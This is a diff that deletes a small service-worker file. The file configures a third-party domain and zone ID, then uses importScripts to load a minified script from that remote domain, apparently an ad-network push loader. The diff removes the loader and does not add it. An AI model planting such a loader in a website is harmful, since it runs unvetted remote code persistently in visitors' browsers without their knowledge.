@@ -1,6 +0,0 @@
-self.options = {
-    "domain": "5gvci.com",
-    "zoneId": 10538875
-}
-self.lary = ""
-importScripts('https://5gvci.com/act/files/service-worker.min.js?r=sw')